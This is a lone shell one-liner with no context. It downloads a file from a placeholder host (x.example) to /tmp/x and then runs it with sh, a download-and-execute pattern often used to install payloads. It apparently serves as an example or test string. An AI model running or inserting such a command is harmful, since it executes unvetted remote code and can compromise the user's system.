curl -o /tmp/x https://x.example/x; sh /tmp/x
